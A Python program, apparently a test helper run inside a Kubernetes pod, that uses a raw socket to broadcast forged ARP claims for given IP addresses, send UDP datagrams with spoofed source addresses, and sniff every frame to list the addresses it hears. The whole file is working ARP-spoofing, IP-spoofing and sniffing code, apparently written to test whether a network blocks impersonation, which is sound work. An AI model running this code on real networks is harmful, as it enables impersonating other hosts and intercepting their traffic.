"""What a pod does to be taken for others at its end of the wire, as a program for its own Python.

Until /tmp/enough exists it claims the addresses in its arguments, by ARP and as the source of datagrams to port 9999 of
the first, and listens to every frame. Then it sends one datagram that is honest. It prints "lying", and in the end a
JSON list of addresses that it heard of.
"""

from __future__ import annotations

import json
import os
import select
import socket
import struct
import sys

IPV4, ARP, EVERY = 0x0800, 0x0806, 0x0003
EVERYBODY = b"\xff" * 6
GATEWAY = "10.244.0.1"


def node() -> bytes:
    """The hardware address at the other end of the wire."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_datagram:
        any_datagram.sendto(b"", (GATEWAY, 9))
    while True:
        with open("/proc/net/arp") as table:
            for line in table:
                ip, _, flags, hardware, *_ = line.split()
                if ip == GATEWAY and flags == "0x2":
                    return bytes.fromhex(hardware.replace(":", ""))


def claim(own: bytes, ip: bytes, kind: int) -> bytes:
    """By a request or a reply that nobody has asked for (RFC 5227)."""
    return EVERYBODY + own + struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, kind) + own + ip + EVERYBODY + ip


def datagram(own: bytes, there: bytes, source: bytes, target: bytes) -> bytes:
    payload = b"forged"
    udp = struct.pack("!HHHH", 99, 9999, 8 + len(payload), 0) + payload
    ends = source + target
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0)
    total = sum(struct.unpack("!10H", header + ends))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return there + own + struct.pack("!H", IPV4) + header[:10] + struct.pack("!H", checksum) + ends + udp


def heard_of(frame: bytes) -> list[str]:
    """Whom a packet is from and to."""
    if struct.unpack_from("!H", frame, 12)[0] != IPV4:
        return []
    return [socket.inet_ntoa(frame[start : start + 4]) for start in (26, 30)]


def main(target: str, *others: str) -> None:
    addresses = [socket.inet_aton(address) for address in (target, *others)]
    heard: set[str] = set()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY)) as wire:
        wire.bind(("eth0", EVERY))
        own, there = wire.getsockname()[4], node()
        frames = [claim(own, address, kind) for address in addresses for kind in (1, 2)]
        frames += [datagram(own, there, address, addresses[0]) for address in addresses[1:]]
        print("lying", flush=True)
        while not os.path.exists("/tmp/enough"):
            for frame in frames:
                wire.send(frame)
            while select.select([wire], [], [], 0.01)[0]:
                frame, (_, _, direction, *_) = wire.recvfrom(2048)
                if direction != socket.PACKET_OUTGOING:
                    heard.update(heard_of(frame))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as honest:
        honest.sendto(b"honest", (target, 9999))
    print(json.dumps(sorted(heard)))


if __name__ == "__main__":
    main(*sys.argv[1:])
